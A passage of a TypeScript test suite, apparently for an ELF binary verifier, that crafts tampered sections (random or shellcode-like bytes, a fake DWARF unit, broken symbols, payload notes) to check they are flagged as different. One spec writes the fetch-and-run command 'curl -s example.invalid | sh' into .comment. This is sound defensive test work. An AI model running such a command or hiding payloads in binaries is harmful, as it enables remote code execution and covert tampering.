// claims (src/forensics/proofs/), so each of these is `different`, naming
// the section. Expected verdicts written before the first run.
// ---------------------------------------------------------------------------

/** Deterministic bytes that look random (xorshift32), for payloads. */
function noise(size: number, seed = 0x9e3779b9): Buffer {
  const b = Buffer.alloc(size);
  let x = seed >>> 0;
  for (let i = 0; i < size; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    b[i] = x & 0xff;
  }
  return b;
}

type SectionFields = Omit<SectionHeader, 'index' | 'name'>;

/**
 * Gives a section new contents: they take the place of the section header
 * table (which must end the file) and the table moves after them; the old
 * contents are zeroed (zero padding, accounted for). `add` appends a new
 * section header instead of changing the named one.
 */
function placeContents(
  e: Edit,
  data: Buffer,
  target: { name: string } | { add: Omit<SectionFields, 'offset' | 'size'> },
): Buffer {
  const h = e.elf.header;
  if (h.shoff + h.shnum * h.shentsize !== e.buf.length)
    throw new Error('attack construction: SHT is not last');
  const table = Buffer.from(e.buf.subarray(h.shoff));
  const at = (h.shoff + 7) & ~7;
  const tableAt = (at + data.length + 7) & ~7;
  let entries = table;
  if ('add' in target) {
    entries = Buffer.concat([table, sectionHeaderBytes(e, { ...target.add, offset: at, size: data.length })]);
  } else {
    const s = e.section(target.name);
    e.buf.fill(0, s.offset, s.offset + s.size);
    const t = new Edit(entries, e.elf);
    const o = s.index * h.shentsize;
    t.word(o + (e.is64 ? 24 : 16), BigInt(at));
    t.word(o + (e.is64 ? 32 : 20), BigInt(data.length));
  }
  const out = Buffer.concat([
    e.buf.subarray(0, h.shoff),
    Buffer.alloc(at - h.shoff),
    data,
    Buffer.alloc(tableAt - at - data.length),
    entries,
  ]);
  const o = new Edit(out, e.elf);
  o.word(e.is64 ? 40 : 32, BigInt(tableAt));
  if ('add' in target) o.u16(e.is64 ? 60 : 48, h.shnum + 1);
  return out;
}

const contentsOf = (e: Edit, name: string) => {
  const s = e.section(name);
  return Buffer.from(e.buf.subarray(s.offset, s.offset + s.size));
};

/** A one-unit DWARF 5 .debug_info: a valid header, then `body`. */
function fakeInfoUnit(e: Edit, body: Buffer): Buffer {
  const u = Buffer.alloc(12 + body.length);
  const w = new Edit(u, e.elf);
  w.u32(0, 8 + body.length);
  w.u16(4, 5);
  u[6] = 1; // DW_UT_compile
  u[7] = e.is64 ? 8 : 4;
  w.u32(8, 0); // abbreviation offset 0
  body.copy(u, 12);
  return u;
}

const proofAttack = (
  name: string,
  from: string,
  against: string,
  what: string,
  craft: Craft,
): AttackSpec => ({ name, from, against, what, expect: 'different', runs: true, craft });

const CONTENT_PROOF_SPECS: AttackSpec[] = [
  proofAttack(
    'atk-proof-comment-random',
    'base',
    'base',
    '.comment replaced by 64 KiB of random bytes',
    (e) => placeContents(e, noise(64 << 10), { name: '.comment' }),
  ),
  proofAttack(
    'atk-proof-comment-random',
    'base',
    'pkgforge',
    '.comment of 64 KiB random bytes in an unstripped published file vs the post-processed rebuild',
    (e) => placeContents(e, noise(64 << 10), { name: '.comment' }),
  ),
  proofAttack(
    'atk-proof-comment-text',
    'base',
    'base',
    '.comment with a real GCC string and a second text string naming no toolchain',
    (e) =>
      placeContents(
        e,
        Buffer.concat([contentsOf(e, '.comment'), Buffer.from('curl -s example.invalid | sh\0')]),
        {
          name: '.comment',
        },
      ),
  ),
  proofAttack(
    'atk-proof-comment-nul-shellcode',
    'base',
    'base',
    '.comment holding NUL-separated shellcode-looking bytes',
    (e) => placeContents(e, Buffer.concat([payload(64), Buffer.from([0])]), { name: '.comment' }),
  ),
  proofAttack('atk-proof-debug-random', 'base', 'base', '.debug_info replaced by random bytes', (e) =>
    placeContents(e, noise(8192, 7), { name: '.debug_info' }),
  ),
  proofAttack(
    'atk-proof-debug-fake-unit',
    'base',
    'base',
    '.debug_info as one DWARF 5 unit with a valid header and a shellcode body',
    (e) => placeContents(e, fakeInfoUnit(e, payload(64)), { name: '.debug_info' }),
  ),
  proofAttack(
    'atk-proof-debug-appended',
    'base',
    'base',
    'the real .debug_info with 256 random bytes appended (not a unit)',
    (e) =>
      placeContents(e, Buffer.concat([contentsOf(e, '.debug_info'), noise(256, 3)]), { name: '.debug_info' }),
  ),
  proofAttack(
    'atk-proof-debug-str-binary',
    'base',
    'base',
    'a second .debug_str section holding NUL-free shellcode and a final NUL',
    (e) =>
      placeContents(e, Buffer.concat([payload(64), Buffer.from([0])]), {
        add: {
          nameOffset: e.nameOffset('.debug_str'),
          type: SHT.PROGBITS,
          flags: 0x30n,
          addr: 0n,
          link: 0,
          info: 0,
          addralign: 1n,
          entsize: 1n,
        },
      }),
  ),
  proofAttack(
    'atk-proof-symtab-name',
    'base',
    'base',
    'the last .symtab entry given a name offset past the end of .strtab',
    (e) => {
      const s = e.section('.symtab');
      const strtab = e.section('.strtab');
      e.u32(s.offset + s.size - (e.is64 ? 24 : 16), strtab.size + 100);
      return e.buf;
    },
  ),
  proofAttack(
    'atk-proof-symtab-value',
    'base',
    'base',
    'a function symbol in .text given a value far outside the loaded image (8 free bytes)',
    (e) => {
      const s = e.section('.symtab');
      const text = e.section('.text');
      const ent = e.is64 ? 24 : 16;
      for (let o = s.offset + ent; o < s.offset + s.size; o += ent) {
        const shndx = e.le
          ? e.buf.readUInt16LE(o + (e.is64 ? 6 : 14))
          : e.buf.readUInt16BE(o + (e.is64 ? 6 : 14));
        if (shndx !== text.index) continue;
        e.word(o + (e.is64 ? 8 : 4), 0x4141414141414141n);
        return e.buf;
      }
      throw new Error('attack construction: no symbol in .text');
    },
  ),
  proofAttack(
    'atk-proof-strtab-unused',
    'base',
    'base',
    '.strtab with a string appended that no symbol uses',
    (e) =>
      placeContents(e, Buffer.concat([contentsOf(e, '.strtab'), Buffer.from('payload-no-symbol-names\0')]), {
        name: '.strtab',
      }),
  ),
  proofAttack(
    'atk-proof-symtab-huge',
    'base',
    'base',
    '.symtab grown past the size bound with copies of its own well-formed entries',
    (e) => {
      const sym = contentsOf(e, '.symtab');
      const ent = e.is64 ? 24 : 16;
      const body = sym.subarray(ent);
      const copies = Math.ceil((e.buf.length * 80 + (2 << 20)) / body.length);
      return placeContents(e, Buffer.concat([sym, ...Array.from({ length: copies }, () => body)]), {
        name: '.symtab',
      });
    },
  ),
  proofAttack(
    'atk-proof-debuglink-trailing',
    'debuglink',
    'base',
    '.gnu_debuglink as objcopy writes it, with 32 bytes after the CRC32',
    (e) =>
      placeContents(e, Buffer.concat([contentsOf(e, '.gnu_debuglink'), noise(32, 5)]), {
        name: '.gnu_debuglink',
      }),
  ),
  proofAttack(
    'atk-proof-debuglink-binary-name',
    'debuglink',
    'base',
    '.gnu_debuglink whose file name is shellcode-looking bytes',
    (e) => {
      const name = Buffer.concat([payload(28), Buffer.from([0, 0, 0, 0])]);
      return placeContents(e, Buffer.concat([name, Buffer.from([1, 2, 3, 4])]), { name: '.gnu_debuglink' });
    },
  ),
  proofAttack(
    'atk-proof-note-buildid',
    'addnote',
    'base',
    'the added non-allocated note made a GNU build-id note whose descriptor is a payload',
    (e) => placeContents(e, buildIdNote(e, payload(64)), { name: '.note.rebuild' }),
  ),
  proofAttack(
    'atk-proof-note-trailing',
    'addnote-fdo',
    'base',
    'a well-formed FDO package note followed by 64 random bytes',
    (e) =>
      placeContents(e, Buffer.concat([contentsOf(e, '.note.package'), noise(64, 11)]), {
        name: '.note.package',
      }),
  ),
];
